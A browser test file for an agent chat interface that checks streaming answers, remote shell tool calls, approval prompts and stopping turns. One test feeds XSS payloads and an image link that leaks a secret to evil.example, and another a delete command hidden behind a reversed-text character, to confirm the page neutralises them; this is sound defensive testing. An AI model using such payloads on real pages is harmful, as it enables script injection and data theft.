import type { AgentEvent } from '@skein/agent';
import { chromiumMissing, type ScriptedTurn } from '@skein/testing';
import { describe, expect, it } from 'vitest';
import { openPage } from './open-page.ts';
import { usePageFolder } from './page-folder.ts';

const missing = chromiumMissing();
const call = { id: 'c1', name: 'us-monitor/shell_exec', peer: 'us-monitor' };

async function* start(turn: ScriptedTurn): AsyncGenerator<AgentEvent> {
  yield { type: 'turn-start', turnId: 't', sessionId: turn.request.sessionId, brain: 'script' };
}

describe.skipIf(missing !== null)(`chat in a browser${missing === null ? '' : ` (left out: ${missing})`}`, () => {
  const folder = usePageFolder();

  it('shows an answer while it is still being written', async () => {
    const gate = Promise.withResolvers<void>();
    const ask = async function* (turn: ScriptedTurn): AsyncGenerator<AgentEvent> {
      yield* start(turn);
      yield { type: 'text-delta', text: 'The first half' };
      await gate.promise;
      yield { type: 'text-delta', text: ' and the second.' };
      yield { type: 'answer', text: 'The first half and the second.', toolCalls: [] };
    };
    await using open = await openPage({ page: folder(), script: { ask } });
    await open.ask('tell me');
    await open.page.getByText('The first half', { exact: true }).waitFor();
    expect(await open.page.getByRole('button', { name: 'Stop' }).isVisible()).toBe(true);
    gate.resolve();
    await open.page.getByText('The first half and the second.', { exact: true }).first().waitFor();
    await open.page.getByRole('button', { name: 'Send' }).waitFor();
    expect(open.problems).toEqual([]);
  });

  it('shows a tool call on a remote peer as it happens: who, what, how long, partial and whole output', async () => {
    const gate = Promise.withResolvers<void>();
    const ask = async function* (turn: ScriptedTurn): AsyncGenerator<AgentEvent> {
      yield* start(turn);
      yield { type: 'tool-call', ...call, input: { command: 'df -h' } };
      yield { type: 'tool-output', id: call.id, delta: 'Filesystem so far' };
      await gate.promise;
      yield { type: 'tool-result', ...call, ok: true, ms: 1_234, output: { exitCode: 0, stdout: 'all of it' } };
      yield { type: 'answer', text: 'Plenty of room.', toolCalls: [{ ...call, ms: 1_234, ok: true }] };
    };
    await using open = await openPage({ page: folder(), script: { ask } });
    await open.ask('how full is the disk?');
    const line = open.page.getByRole('button', { name: /us-monitor\s*\/\s*shell_exec/ });
    await line.waitFor();
    expect(await line.textContent()).toMatch(/df -h.*running/);
    await line.click();
    await open.page.getByRole('region', { name: 'Input of us-monitor/shell_exec' }).getByText('df -h').waitFor();
    await open.page.getByText('Filesystem so far').waitFor();
    gate.resolve();
    await open.page.getByText('all of it').waitFor();
    expect(await line.textContent()).toMatch(/1\.2 s, ok/);
    await open.page.getByText('Plenty of room.').first().waitFor();
  });

  it('says that a call failed, and why a turn ended', async () => {
    const ask = async function* (turn: ScriptedTurn): AsyncGenerator<AgentEvent> {
      yield* start(turn);
      yield { type: 'tool-call', ...call, input: {} };
      yield { type: 'tool-result', ...call, ok: false, ms: 5, output: { code: 'denied', message: 'not allowed there' } };
      yield { type: 'error', code: 'unavailable', message: 'The brain does not answer; check its key' };
    };
    await using open = await openPage({ page: folder(), script: { ask } });
    await open.ask('do it');
    await open.page.getByRole('alert').getByText('The brain does not answer; check its key').waitFor();
    await open.page.getByRole('button', { name: /shell_exec.*failed/ }).waitFor();
  });

  it.each([
    ['Approve', true, 'Approved'],
    ['Refuse', false, 'Refused'],
  ])('asks before a call runs, with its exact arguments: %s', async (button, expected, word) => {
    const ask = async function* (turn: ScriptedTurn): AsyncGenerator<AgentEvent> {
      yield* start(turn);
      const decision = turn.confirmed('k1');
      yield {
        type: 'confirm-request',
        ...call,
        id: 'k1',
        input: { command: 'rm \u202Egpj.exe' },
        reason: 'It deletes a file.',
      };
      yield { type: 'answer', text: `decided: ${await decision}`, toolCalls: [] };
    };
    await using open = await openPage({ page: folder(), script: { ask } });
    await open.ask('clean up');
    await open.page.getByText('It deletes a file.').waitFor();
    // A character that turns the reading order around is spelled out.
    expect(await open.page.getByRole('region', { name: 'Exact arguments' }).textContent()).toContain('rm \\u{202e}gpj.exe');
    await open.page.getByRole('button', { name: button }).click();
    await open.page.getByText(`decided: ${expected}`).first().waitFor();
    await open.page.getByRole('heading', { name: new RegExp(word) }).waitFor();
    expect(await open.page.getByRole('button', { name: 'Approve' }).count()).toBe(0);
  });

  it.each(['the button', 'Escape'])('stops the turn on the node with %s', async (way) => {
    const stopped = Promise.withResolvers<void>();
    const ask = async function* (turn: ScriptedTurn): AsyncGenerator<AgentEvent> {
      yield* start(turn);
      turn.signal.addEventListener('abort', () => stopped.resolve());
      yield { type: 'tool-call', ...call, input: {} };
      await stopped.promise;
    };
    await using open = await openPage({ page: folder(), script: { ask } });
    await open.ask('take your time');
    await open.page.getByRole('button', { name: /shell_exec.*running/ }).waitFor();
    if (way === 'Escape') await open.page.keyboard.press('Escape');
    else await open.page.getByRole('button', { name: 'Stop' }).click();
    await stopped.promise;
    await open.page.getByText('Stopped.').waitFor();
    await open.page.getByRole('button', { name: /shell_exec.*stopped/ }).waitFor();
  });

  it('goes on when Escape closes a dialog', async () => {
    const gate = Promise.withResolvers<void>();
    const ask = async function* (turn: ScriptedTurn): AsyncGenerator<AgentEvent> {
      yield* start(turn);
      yield { type: 'text-delta', text: 'Working on it. ' };
      await gate.promise;
      yield { type: 'answer', text: turn.signal.aborted ? 'cut off' : 'carried through', toolCalls: [] };
    };
    await using open = await openPage({ page: folder(), script: { ask } });
    await open.ask('take your time');
    await open.page.getByText('Working on it.').waitFor();
    await open.page.getByRole('button', { name: /Brain/ }).click();
    await open.page.getByRole('dialog').waitFor();
    await open.page.keyboard.press('Escape');
    await open.page.getByRole('dialog').waitFor({ state: 'detached' });
    gate.resolve();
    await open.page.getByText('carried through').first().waitFor();
  });

  it('makes text of whatever a model writes, never HTML or a link that runs something', async () => {
    const text =
      '<img src=x onerror="document.title=1"> <script>document.title=2</script>\n\n[click](javascript:document.title=3) ![p](https://evil.example/?q=secret) [fine](https://example.org/) **bold**';
    const ask = async function* (turn: ScriptedTurn): AsyncGenerator<AgentEvent> {
      yield* start(turn);
      yield { type: 'answer', text, toolCalls: [] };
    };
    await using open = await openPage({ page: folder(), script: { ask } });
    await open.ask('show');
    await open.page.locator('strong', { hasText: 'bold' }).waitFor();
    const log = open.page.getByRole('log');
    expect(await log.locator('img, script, iframe').count()).toBe(0);
    expect(await log.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).toEqual([
      'https://evil.example/?q=secret',
      'https://example.org/',
    ]);
    expect(await open.page.title()).toBe('coordinator · Skein');
    expect(open.requested.filter((url) => url.includes('evil.example'))).toEqual([]);
  });

  it('opens a past chat, continues it, and begins a new one', async () => {
    const asked: string[] = [];
    const ask = async function* (turn: ScriptedTurn): AsyncGenerator<AgentEvent> {
      asked.push(turn.request.sessionId);
      yield* start(turn);
      yield { type: 'answer', text: `answer ${asked.length}`, toolCalls: [] };
    };
    const sessions = [{ id: 'past', title: 'Disks last week', updatedAtMs: 1 }];
    const history = {
      past: [
        { role: 'user', text: 'were the disks full?' },
        { role: 'assistant', text: 'They were **not**.' },
      ],
    } as const;
    await using open = await openPage({ page: folder(), script: { ask, sessions, history } });
    await open.page.getByRole('button', { name: /Disks last week/ }).click();
    await open.page.getByText('were the disks full?').waitFor();
    await open.ask('and now?');
    await open.page.getByText('answer 1').first().waitFor();
    await open.page.getByRole('button', { name: 'New chat' }).click();
    await open.ask('something else');
    await open.page.getByText('answer 2').first().waitFor();
    expect(asked[0]).toBe('past');
    expect(asked[1]).toMatch(/^[0-9a-f-]{36}$/);
    expect(await open.page.getByText('were the disks full?').count()).toBe(0);
  });

  it('shows what is said in the open chat on another device, beside the tool calls seen here', async () => {
    const turn = async function* (scripted: ScriptedTurn): AsyncGenerator<AgentEvent> {
      yield* start(scripted);
      yield { type: 'tool-call', ...call, input: { command: 'df -h' } };
      yield { type: 'tool-result', ...call, ok: true, ms: 5, output: { stdout: 'all of it' } };
      yield { type: 'answer', text: 'Plenty of room.', toolCalls: [{ ...call, ms: 5, ok: true }] };
    };
    const ids: string[] = [];
    const ask = (scripted: ScriptedTurn) => {
      ids.push(scripted.request.sessionId);
      return turn(scripted);
    };
    await using open = await openPage({ page: folder(), script: { ask } });
    await open.ask('how full is the disk?');
    await open.page.getByText('Plenty of room.').first().waitFor();
    const [id = ''] = ids;
    const here = [
      { role: 'user', text: 'how full is the disk?' },
      { role: 'assistant', text: 'Plenty of room.' },
    ] as const;
    const there = { role: 'user', text: 'and on the phone?' } as const;
    const tell = (updatedAtMs: number, history: readonly { readonly role: 'user' | 'assistant'; readonly text: string }[]) =>
      open.node.backend.change(
        { sessions: [{ id, title: 'how full is the disk?', updatedAtMs }], history: { [id]: history } },
        { type: 'sessions-changed', atMs: updatedAtMs },
      );
    tell(1_000, [...here, there]);
    await open.page.getByText('and on the phone?').first().waitFor();
    tell(2_000, [...here, there, { role: 'assistant', text: 'There is less.' }]);
    await open.page.getByText('There is less.').first().waitFor();
    expect(await open.page.getByText('and on the phone?').count()).toBe(1);
    await open.page.getByRole('button', { name: /us-monitor\s*\/\s*shell_exec/ }).waitFor();
    expect(open.problems).toEqual([]);
  });
});
